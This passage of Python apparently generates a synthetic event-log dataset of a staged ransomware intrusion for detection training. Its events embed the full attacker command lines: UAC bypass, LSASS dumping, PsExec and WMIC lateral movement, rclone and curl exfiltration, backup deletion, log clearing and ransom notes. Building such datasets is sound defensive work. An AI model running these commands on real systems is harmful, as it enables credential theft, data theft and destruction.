    ws_ps.add(T("2026-03-02 08:47:21.377"), dict(PSO, EventID=4104, MessageNumber=1, MessageTotal=1,
                                                 ScriptBlockText=stage2, ScriptBlockId=str(uuid.UUID(int=rng.getrandbits(128), version=4)),
                                                 Path=""), True, S1)
    s_net(T("2026-03-02 08:47:21.402"), ps, C2_IP, 80, C2_DOMAIN, mal=True, step=S1)
    s_file(T("2026-03-02 08:47:23.655"), ps, IMPLANT, True, S1)
    implant = s_proc(T("2026-03-02 08:47:24.020"), IMPLANT, f"\"{IMPLANT}\"", ps, mal=True, step=S1)
    s_net(T("2026-03-02 08:47:25.880"), implant, C2_IP, 443, C2_DOMAIN, mal=True, step=S1)

    # ---------------------------------------------------------------- step 2
    t = T("2026-03-02 09:05:12.204")
    c = s_proc(t, SYS32 + "cmd.exe",
               f"C:\\Windows\\system32\\cmd.exe /c schtasks /create /tn \"EdgeUpdateTaskUserCore\" /tr \"{IMPLANT}\" "
               "/sc daily /st 08:30 /f", implant, mal=True, step=S2)
    st = s_proc(t + ms(180), SYS32 + "schtasks.exe",
                f"schtasks  /create /tn \"EdgeUpdateTaskUserCore\" /tr \"{IMPLANT}\" /sc daily /st 08:30 /f",
                c, mal=True, step=S2)
    ws_sec.add(t + ms(420), dict(
        SEC, EventID=4698, Computer=WS_FQDN, SubjectUserSid=sid("c.martin"), SubjectUserName="c.martin",
        SubjectDomainName=DOMAIN, SubjectLogonId=CM_LOGON, TaskName="\\EdgeUpdateTaskUserCore",
        TaskContent=task_xml("\\EdgeUpdateTaskUserCore", IMPLANT, "", "2026-03-02T08:30:00", "c.martin"),
        ClientProcessStartKey=2814749767106705, ClientProcessId=st.pid, ParentProcessId=c.pid,
        RpcCallClientLocality=0, FQDN=WS_FQDN), True, S2)
    s_proc(T("2026-03-02 09:12:40.771"), SYS32 + "whoami.exe", "whoami  /all", implant, mal=True, step=S2)
    for ts, grp in (("2026-03-02 09:13:05.392", "Domain Admins"), ("2026-03-02 09:13:41.008", "Admins du domaine")):
        n = s_proc(T(ts), SYS32 + "net.exe", f"net  group \"{grp}\" /domain", implant, mal=True, step=S2)
        s_proc(T(ts) + ms(35), SYS32 + "net1.exe", f"C:\\Windows\\system32\\net1  group \"{grp}\" /domain", n,
               mal=True, step=S2)
    s_proc(T("2026-03-02 09:15:02.650"), SYS32 + "nltest.exe", f"nltest  /dclist:{FQDN}", implant, mal=True, step=S2)
    n = s_proc(T("2026-03-02 09:16:10.233"), SYS32 + "net.exe", "net  user adm-dupont /domain", implant,
               mal=True, step=S2)
    s_proc(T("2026-03-02 09:16:10.270"), SYS32 + "net1.exe", "C:\\Windows\\system32\\net1  user adm-dupont /domain", n,
           mal=True, step=S2)
    s_net(T("2026-03-02 11:02:51.448"), implant, C2_IP, 443, C2_DOMAIN, mal=True, step=S2)

    # UAC bypass (c.martin is local administrator): ms-settings handler hijack + fodhelper
    t = T("2026-03-02 14:28:30.118")
    hk = f"HKU\\{sid('c.martin')}_Classes\\ms-settings\\Shell\\Open\\command"
    r1 = s_proc(t, SYS32 + "reg.exe",
                f"reg  add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /ve /d \"{IMPLANT}\" /f",
                implant, mal=True, step=S2)
    s_reg(t + ms(60), r1, hk + "\\(Default)", IMPLANT, True, S2)
    r2 = s_proc(t + ms(900), SYS32 + "reg.exe",
                "reg  add HKCU\\Software\\Classes\\ms-settings\\Shell\\Open\\command /v DelegateExecute /t REG_SZ /f",
                implant, mal=True, step=S2)
    s_reg(t + ms(960), r2, hk + "\\DelegateExecute", "(Empty)", True, S2)
    fod = s_proc(t + timedelta(seconds=11), SYS32 + "fodhelper.exe", "\"C:\\Windows\\system32\\fodhelper.exe\"",
                 implant, integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S2)
    implant_hi = s_proc(t + timedelta(seconds=12), IMPLANT, f"\"{IMPLANT}\"", fod, integrity="High",
                        logon_id=CM_LOGON_ELEV, cwd=SYS32, mal=True, step=S2)
    s_proc(t + timedelta(seconds=35), SYS32 + "reg.exe", "reg  delete HKCU\\Software\\Classes\\ms-settings /f",
           implant_hi, integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S2)
    s_net(t + timedelta(seconds=14), implant_hi, C2_IP, 443, C2_DOMAIN, mal=True, step=S2)

    # ---------------------------------------------------------------- step 3 (Tuesday, night)
    hi = dict(integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S3)
    t = T("2026-03-03 01:11:03.205")
    rd = s_proc(t, SYS32 + "rundll32.exe",
                f"\"C:\\Windows\\system32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, MiniDump {LSASS_PID} "
                "C:\\ProgramData\\stage\\s.dmp full", implant_hi, **hi)
    s_access(t + ms(240), rd, P_LSASS, "0x1fffff",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
             "C:\\Windows\\System32\\comsvcs.dll+3e6f1|C:\\Windows\\System32\\comsvcs.dll+3a9c2|"
             "C:\\Windows\\system32\\rundll32.exe+3bc4|C:\\Windows\\System32\\KERNEL32.DLL+17374|"
             "C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91", True, S3)
    # (the rundll32 attempt is killed by Defender; no dump file)
    s_file(T("2026-03-03 01:13:40.512"), implant_hi, STAGE + "dbgsvc.exe", True, S3)
    t = T("2026-03-03 01:14:02.330")
    pdump = s_proc(t, STAGE + "dbgsvc.exe",
                   f"\"{STAGE}dbgsvc.exe\" -accepteula -ma {LSASS_PID} C:\\ProgramData\\stage\\lsass.dmp",
                   implant_hi, **hi)
    s_access(t + ms(280), pdump, P_LSASS, "0x1410",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
             f"{STAGE}dbgsvc.exe+1f0a5|{STAGE}dbgsvc.exe+21c3e|C:\\Windows\\System32\\KERNEL32.DLL+17374|"
             "C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91", True, S3)
    s_access(t + ms(530), pdump, P_LSASS, "0x1fffff",
             "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
             "C:\\Windows\\SYSTEM32\\dbghelp.dll+4a8e1|C:\\Windows\\SYSTEM32\\dbghelp.dll+4b1f2|"
             f"{STAGE}dbgsvc.exe+1f97c|C:\\Windows\\System32\\KERNEL32.DLL+17374|"
             "C:\\Windows\\SYSTEM32\\ntdll.dll+4cc91", True, S3)
    s_file(t + timedelta(seconds=1, milliseconds=470), pdump, "C:\\ProgramData\\stage\\lsass.dmp", True, S3)
    s_net(T("2026-03-03 01:20:15.040"), implant_hi, C2_IP, 443, C2_DOMAIN, mal=True, step=S3)

    # ---------------------------------------------------------------- step 4 (Tuesday evening)
    hi4 = dict(integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S4)
    s_file(T("2026-03-03 19:18:05.771"), implant_hi, STAGE + "PsExec64.exe", True, S4)
    t = T("2026-03-03 19:18:30.402")
    psx = s_proc(t, STAGE + "PsExec64.exe",
                 f"\"{STAGE}PsExec64.exe\" \\\\{FS} -accepteula -u {DOMAIN}\\adm-dupont -p {ADM_PASSWORD} "
                 "cmd.exe /c \"hostname & net share & dir D:\\Partages\"", implant_hi, **hi4)
    sec_4648(ws_sec, WS_FQDN, t + ms(300), "c.martin", sid("c.martin"), CM_LOGON_ELEV, "adm-dupont", DOMAIN, FS,
             psx.image, hex(psx.pid), FS_IP, 445, mal=True, step=S4)
    s_net(t + ms(320), psx, FS_IP, 445, FS_FQDN, src_port=50312, mal=True, step=S4)
    lid = "0x4c82f11"
    sec_4624(fs_sec, FS_FQDN, t + ms(410), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, "NtLmSsp ", "NTLM",
             WS, WS_IP, 50312, mal=True, step=S4)
    sec_4672(fs_sec, FS_FQDN, t + ms(412), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, mal=True, step=S4)
    fs_sys.add(t + ms(1190), dict(SCM, EventID=7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe",
                                  ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem"),
               True, S4)
    psexesvc = fs_4688(t + ms(1250), "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                       SYS32 + "services.exe", 696, mal=True, step=S4)
    fs_7036(t + ms(1260), "PSEXESVC", "running", True, S4)
    cpid = fs_4688(t + timedelta(seconds=2), SYS32 + "cmd.exe", "\"cmd.exe\" /c \"hostname & net share & dir D:\\Partages\"",
                   "C:\\Windows\\PSEXESVC.exe", psexesvc, user="adm-dupont", usid=sid("adm-dupont"), logon_id=lid,
                   elevation="%%1937", label="S-1-16-12288", mal=True, step=S4)
    fs_4688(t + timedelta(seconds=2, milliseconds=40), SYS32 + "HOSTNAME.EXE", "hostname", SYS32 + "cmd.exe", cpid,
            user="adm-dupont", usid=sid("adm-dupont"), logon_id=lid, elevation="%%1937", label="S-1-16-12288",
            mal=True, step=S4)
    fs_4688(t + timedelta(seconds=2, milliseconds=90), SYS32 + "net.exe", "net  share", SYS32 + "cmd.exe", cpid,
            user="adm-dupont", usid=sid("adm-dupont"), logon_id=lid, elevation="%%1937", label="S-1-16-12288",
            mal=True, step=S4)
    fs_7036(t + timedelta(seconds=4), "PSEXESVC", "stopped", True, S4)
    sec_4634(fs_sec, FS_FQDN, t + timedelta(seconds=5), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, True, S4)

    # remote WMI
    t = T("2026-03-03 19:31:12.660")
    wm = s_proc(t, SYS32 + "wbem\\WMIC.exe",
                f"wmic  /node:{FS} /user:{DOMAIN}\\adm-dupont /password:{ADM_PASSWORD} process call create "
                "\"cmd.exe /c quser > C:\\Windows\\Temp\\q.txt 2>&1\"", implant_hi, **hi4)
    sec_4648(ws_sec, WS_FQDN, t + ms(200), "c.martin", sid("c.martin"), CM_LOGON_ELEV, "adm-dupont", DOMAIN, FS,
             wm.image, hex(wm.pid), FS_IP, 135, mal=True, step=S4)
    s_net(t + ms(210), wm, FS_IP, 135, FS_FQDN, src_port=50377, mal=True, step=S4)
    lid = "0x4c9a207"
    sec_4624(fs_sec, FS_FQDN, t + ms(330), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, "NtLmSsp ", "NTLM",
             WS, WS_IP, 50377, mal=True, step=S4)
    sec_4672(fs_sec, FS_FQDN, t + ms(332), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, mal=True, step=S4)
    cpid = fs_4688(t + ms(910), SYS32 + "cmd.exe", "cmd.exe /c quser > C:\\Windows\\Temp\\q.txt 2>&1",
                   SYS32 + "wbem\\WmiPrvSE.exe", 2716, user="adm-dupont", usid=sid("adm-dupont"), logon_id=lid,
                   elevation="%%1937", label="S-1-16-12288", mal=True, step=S4)
    fs_4688(t + ms(960), SYS32 + "quser.exe", "quser", SYS32 + "cmd.exe", cpid, user="adm-dupont",
            usid=sid("adm-dupont"), logon_id=lid, elevation="%%1937", label="S-1-16-12288", mal=True, step=S4)
    sec_4634(fs_sec, FS_FQDN, t + timedelta(seconds=3), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, True, S4)

    # ---------------------------------------------------------------- step 5: staging
    hi5 = dict(integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S5)
    t = T("2026-03-03 19:40:03.127")
    s_proc(t, SYS32 + "net.exe", f"net  use \\\\{FS}\\Partages /user:{DOMAIN}\\adm-dupont {ADM_PASSWORD}",
           implant_hi, **hi5)
    lid = "0x4cb0d35"
    sec_4624(fs_sec, FS_FQDN, t + ms(150), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, "NtLmSsp ", "NTLM",
             WS, WS_IP, 50402, mal=True, step=S5)
    fs_sec.add(t + ms(190), dict(
        SEC, EventID=5140, Computer=FS_FQDN, SubjectUserSid=sid("adm-dupont"), SubjectUserName="adm-dupont",
        SubjectDomainName=DOMAIN, SubjectLogonId=lid, ObjectType="File", IpAddress=WS_IP, IpPort=50402,
        ShareName="\\\\*\\Partages", ShareLocalPath="\\??\\D:\\Partages", AccessMask="0x1",
        AccessList="%%4416\n\t\t\t\t"), True, S5)
    s_file(T("2026-03-03 19:44:20.019"), implant_hi, STAGE + "7z.exe", True, S5)
    t = T("2026-03-03 19:45:10.554")
    z = s_proc(t, STAGE + "7z.exe",
               f"\"{STAGE}7z.exe\" a -t7z -mx1 -mhe=on -pObs1d!enne#26 C:\\ProgramData\\stage\\archive.7z "
               f"\\\\{FS}\\Partages\\RH \\\\{FS}\\Partages\\Finances", implant_hi, **hi5)
    s_file(t + timedelta(seconds=1), z, "C:\\ProgramData\\stage\\archive.7z", True, S5)
    sec_4634(fs_sec, FS_FQDN, T("2026-03-03 20:33:47.210"), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, True, S5)

    # ---------------------------------------------------------------- step 6: exfiltration
    hi6 = dict(integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S6)
    s_file(T("2026-03-03 20:35:02.440"), implant_hi, STAGE + "rclone.exe", True, S6)
    s_file(T("2026-03-03 20:35:09.901"), implant_hi, STAGE + "rc.conf", True, S6)
    t = T("2026-03-03 20:36:20.315")
    rc = s_proc(t, STAGE + "rclone.exe",
                f"\"{STAGE}rclone.exe\" copy C:\\ProgramData\\stage mega:andp-sauvegarde --config {STAGE}rc.conf "
                "--transfers 4 --multi-thread-streams 4 --ignore-existing -q", implant_hi, **hi6)
    s_dns(t + ms(700), rc, "g.api.mega.co.nz", f"::ffff:{EXFIL_IP};", True, S6)
    s_net(t + ms(800), rc, EXFIL_IP, 443, "g.api.mega.co.nz", mal=True, step=S6)
    s_dns(t + timedelta(seconds=3), rc, "gfs270n114.userstorage.mega.co.nz", f"::ffff:{EXFIL_IP};", True, S6)
    for k in range(4):
        s_net(t + timedelta(seconds=4 + k * 2), rc, EXFIL_IP, 443, "gfs270n114.userstorage.mega.co.nz",
              mal=True, step=S6)

    # Linux: brute force then login on the exposed web server, database backup exfiltrated
    S6L = S6
    t = T("2026-03-03 21:58:02.118")
    attempts = [("admin", True), ("test", True), ("oracle", True), ("ubuntu", True),
                ("deploy", False), ("deploy", False), ("deploy", False)]
    for user, invalid in attempts:
        p = rng.randint(30000, 60000)
        port = rng.randint(50000, 60000)
        if invalid:
            syslog(t, "sshd", p, f"Invalid user {user} from {C2_IP} port {port}", mal=True, step=S6L,
                   src_ip=C2_IP, src_port=port, user=user)
            t += ms(rng.randint(1500, 2600))
            syslog(t, "sshd", p, f"Failed password for invalid user {user} from {C2_IP} port {port} ssh2",
                   mal=True, step=S6L, src_ip=C2_IP, src_port=port, user=user)
            audit_user(t + ms(2), "USER_LOGIN", p, 0, 4294967295, 4294967295,
                       {"op": "login", "acct": "(invalid user)", "exe": "/usr/sbin/sshd", "hostname": C2_IP,
                        "addr": C2_IP, "terminal": "sshd", "res": "failed"}, mal=True, step=S6L)
        else:
            syslog(t, "sshd", p, f"pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh "
                                 f"ruser= rhost={C2_IP}  user={user}", mal=True, step=S6L)
            audit_user(t + ms(1), "USER_AUTH", p, 0, 4294967295, 4294967295,
                       {"op": "PAM:authentication", "grantors": "?", "acct": user, "exe": "/usr/sbin/sshd",
                        "hostname": C2_IP, "addr": C2_IP, "terminal": "ssh", "res": "failed"}, mal=True, step=S6L)
            t += ms(rng.randint(1800, 2600))
            syslog(t, "sshd", p, f"Failed password for {user} from {C2_IP} port {port} ssh2", mal=True, step=S6L,
                   src_ip=C2_IP, src_port=port, user=user)
        t += timedelta(seconds=rng.randint(35, 70))
    t = T("2026-03-03 22:07:41.906")
    p = 24877
    port = 51877
    ses = 187
    syslog(t, "sshd", p, f"Accepted password for deploy from {C2_IP} port {port} ssh2", mal=True, step=S6L,
           src_ip=C2_IP, src_port=port, user="deploy")
    audit_user(t - ms(30), "USER_AUTH", p, 0, 4294967295, 4294967295,
               {"op": "PAM:authentication", "grantors": "pam_permit,pam_unix", "acct": "deploy", "exe": "/usr/sbin/sshd",
                "hostname": C2_IP, "addr": C2_IP, "terminal": "ssh", "res": "success"}, mal=True, step=S6L)
    syslog(t + ms(5), "sshd", p, "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
           mal=True, step=S6L)
    audit_user(t + ms(6), "LOGIN", p, 0, 1001, ses, {"old-auid": 4294967295, "tty": "(none)", "old-ses": 4294967295,
                                                     "res": 1}, mal=True, step=S6L)
    syslog(t + ms(9), "systemd-logind", 612, f"New session {ses} of user deploy.", mal=True, step=S6L)
    audit_user(t + ms(70), "USER_LOGIN", p, 0, 1001, ses,
               {"op": "login", "id": 1001, "exe": "/usr/sbin/sshd", "hostname": C2_IP, "addr": C2_IP,
                "terminal": "/dev/pts/1", "res": "success"}, mal=True, step=S6L)
    bash = 24903
    audit_exec(T("2026-03-03 22:08:15.402"), ["uname", "-a"], 1001, 1001, ses, "pts1", bash, True, S6L)
    audit_exec(T("2026-03-03 22:08:33.017"), ["ls", "-la", "/var/backups"], 1001, 1001, ses, "pts1", bash, True, S6L)
    t = T("2026-03-03 22:12:30.550")
    syslog(t, "sudo", None, "deploy : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/deploy ; USER=root ; "
                            "COMMAND=/usr/bin/bash", mal=True, step=S6L)
    audit_exec(t - ms(900), ["sudo", "bash"], 1001, 1001, ses, "pts1", bash, True, S6L)
    audit_exec(T("2026-03-03 22:41:10.002"),
               ["curl", "-T", "/var/backups/db.tar.gz", f"https://{C2_DOMAIN}/u/srv-web-02/db.tar.gz"],
               1001, 1001, ses, "pts1", bash, True, S6L)
    audit_exec(T("2026-03-03 22:43:52.771"), ["ln", "-sf", "/dev/null", "/home/deploy/.bash_history"],
               1001, 1001, ses, "pts1", bash, True, S6L)
    t = T("2026-03-03 22:44:05.310")
    syslog(t, "sshd", p, f"Received disconnect from {C2_IP} port {port}:11: disconnected by user", mal=True,
           step=S6L, src_ip=C2_IP, src_port=port)
    syslog(t + ms(1), "sshd", p, f"Disconnected from user deploy {C2_IP} port {port}", mal=True, step=S6L,
           src_ip=C2_IP, src_port=port, user="deploy")
    syslog(t + ms(4), "sshd", p, "pam_unix(sshd:session): session closed for user deploy", mal=True, step=S6L)
    syslog(t + ms(12), "systemd-logind", 612, f"Removed session {ses}.", mal=True, step=S6L)

    # ---------------------------------------------------------------- step 7: impact (Wednesday night)
    hi7 = dict(integrity="High", logon_id=CM_LOGON_ELEV, mal=True, step=S7)
    s_net(T("2026-03-04 01:55:31.008"), implant_hi, C2_IP, 443, C2_DOMAIN, mal=True, step=S7)
    s_file(T("2026-03-04 01:57:40.660"), implant_hi, STAGE + "obs.exe", True, S7)
    t = T("2026-03-04 01:58:10.221")
    psx = s_proc(t, STAGE + "PsExec64.exe",
                 f"\"{STAGE}PsExec64.exe\" \\\\{FS} -accepteula -u {DOMAIN}\\adm-dupont -p {ADM_PASSWORD} -s -d -c -f "
                 f"{STAGE}obs.exe -p D:\\Partages -n {RANSOM_NOTE}", implant_hi, **hi7)
    sec_4648(ws_sec, WS_FQDN, t + ms(280), "c.martin", sid("c.martin"), CM_LOGON_ELEV, "adm-dupont", DOMAIN, FS,
             psx.image, hex(psx.pid), FS_IP, 445, mal=True, step=S7)
    s_net(t + ms(300), psx, FS_IP, 445, FS_FQDN, src_port=52230, mal=True, step=S7)
    lid = "0x5a01c66"
    sec_4624(fs_sec, FS_FQDN, t + ms(390), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, "NtLmSsp ", "NTLM",
             WS, WS_IP, 52230, mal=True, step=S7)
    sec_4672(fs_sec, FS_FQDN, t + ms(392), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, mal=True, step=S7)
    fs_sys.add(t + ms(1800), dict(SCM, EventID=7045, ServiceName="PSEXESVC", ImagePath="%SystemRoot%\\PSEXESVC.exe",
                                  ServiceType="user mode service", StartType="demand start", AccountName="LocalSystem"),
               True, S7)
    psexesvc = fs_4688(t + ms(1850), "C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\PSEXESVC.exe",
                       SYS32 + "services.exe", 696, mal=True, step=S7)
    fs_7036(t + ms(1870), "PSEXESVC", "running", True, S7)
    obs_fs = fs_4688(t + timedelta(seconds=3), "C:\\Windows\\obs.exe",
                     f"\"C:\\Windows\\obs.exe\" -p D:\\Partages -n {RANSOM_NOTE}", "C:\\Windows\\PSEXESVC.exe",
                     psexesvc, mal=True, step=S7)
    fs_7036(t + timedelta(seconds=4), "PSEXESVC", "stopped", True, S7)
    sec_4634(fs_sec, FS_FQDN, t + timedelta(seconds=5), "adm-dupont", DOMAIN, sid("adm-dupont"), lid, 3, True, S7)
    tt = t + timedelta(seconds=6)
    for img, cmd in ((SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
                     (SYS32 + "wbadmin.exe", "wbadmin.exe delete catalog -quiet"),
                     (SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled No"),
                     (SYS32 + "bcdedit.exe", "bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures")):
        fs_4688(tt, img, cmd, "C:\\Windows\\obs.exe", obs_fs, mal=True, step=S7)
        tt += timedelta(seconds=rng.randint(2, 5))
    tt = T("2026-03-04 02:04:31.806")
    fs_4688(tt, SYS32 + "wevtutil.exe", "wevtutil.exe cl System", "C:\\Windows\\obs.exe", obs_fs, mal=True, step=S7)
    fs_sys.add(tt + ms(120), {"Channel": "System", "Provider_Name": "Microsoft-Windows-Eventlog", "Computer": FS_FQDN,
                              "EventID": 104, "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                              "BackupPath": ""}, True, S7)
    fs_4688(tt + timedelta(seconds=2), SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", "C:\\Windows\\obs.exe",
            obs_fs, mal=True, step=S7)
    fs_sec.add(tt + timedelta(seconds=2, milliseconds=140), {
        "Channel": "Security", "Provider_Name": "Microsoft-Windows-Eventlog", "Computer": FS_FQDN, "EventID": 1102,
        "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
        "SubjectLogonId": "0x3e7"}, True, S7)

    # the workstation itself is encrypted by the implant
    t = T("2026-03-04 02:06:02.440")
    obs = s_proc(t, STAGE + "obs.exe", f"\"{STAGE}obs.exe\" -p C:\\Users -n {RANSOM_NOTE}", implant_hi, **hi7)
    s_proc(t + timedelta(seconds=1), SYS32 + "vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", obs, **hi7)
    pol = "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System"
    caption = "OBSIDIENNE - VOS FICHIERS SONT CHIFFRÉS"
    r1 = s_proc(t + timedelta(seconds=3), SYS32 + "reg.exe",
                f"reg.exe add \"{pol}\" /v legalnoticecaption /t REG_SZ /d \"{caption}\" /f", obs, **hi7)
    s_reg(t + timedelta(seconds=3, milliseconds=40), r1, pol + "\\legalnoticecaption", caption, True, S7)
    r2 = s_proc(t + timedelta(seconds=4), SYS32 + "reg.exe",
                f"reg.exe add \"{pol}\" /v legalnoticetext /t REG_SZ /d \"{RANSOM_TEXT}\" /f", obs, **hi7)
    s_reg(t + timedelta(seconds=4, milliseconds=40), r2, pol + "\\legalnoticetext", RANSOM_TEXT, True, S7)
    folders = ["Desktop", "Documents", "Documents\\Comptabilite", "Documents\\Comptabilite\\2025",
               "Documents\\Comptabilite\\2026", "Downloads", "Pictures", "OneDrive - ANDP\\Factures",
               "OneDrive - ANDP\\Budget 2026"]
    tt = t + timedelta(seconds=9)
    for fo in folders:
        s_file(tt, obs, f"{USER_HOME}{fo}\\{RANSOM_NOTE}", True, S7)
        tt += timedelta(seconds=rng.randint(4, 19), milliseconds=rng.randint(0, 999))
    for fo in ("C:\\Users\\Public\\Documents", "C:\\Users\\Public\\Desktop"):
        s_file(tt, obs, f"{fo}\\{RANSOM_NOTE}", True, S7)
        tt += timedelta(seconds=rng.randint(3, 9))
    t = T("2026-03-04 02:09:29.900")
    s_proc(t, SYS32 + "wevtutil.exe", "wevtutil.exe cl Security", obs, **hi7)
    ws_sec.add(t + ms(180), {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Eventlog", "Computer": WS_FQDN,
                             "EventID": 1102, "SubjectUserSid": sid("c.martin"), "SubjectUserName": "c.martin",
                             "SubjectDomainName": DOMAIN, "SubjectLogonId": CM_LOGON_ELEV}, True, S7)


# ===========================================================================

def main():
    ctx = ws_benign()
    ws_fixed_benign(ctx)
    ws_daily_noise(ctx, 2, 7.95, 16.5, 26)
    ws_daily_noise(ctx, 3, 7.9, 16.6, 27)
    ws_daily_noise(ctx, 4, 7.85, 8.5, 4)
    fs_benign()
    web_benign()
    attack(ctx)

    os.makedirs(OUT_DIR, exist_ok=True)
    stats = []
    for name in sorted(FILES):
        rows = FILES[name].finalize()
        with open(os.path.join(OUT_DIR, name), "w", encoding="utf-8", newline="\n") as fh:
            for ev, _, _ in rows:
                fh.write(json.dumps(ev, ensure_ascii=False, separators=(", ", ": ")) + "\n")
        stats.append((name, len(rows), sum(1 for r in rows if r[1])))
    if "--stats" in sys.argv:
        tot = sum(s[1] for s in stats)
        mal = sum(s[2] for s in stats)
        for name, n, m in stats:
            print(f"{name:34} {n:4} events ({m:3} attack, {n - m:3} benign)")
        print(f"{'total':34} {tot:4} events ({mal:3} attack, {tot - mal:3} benign)")


if __name__ == "__main__":
    main()
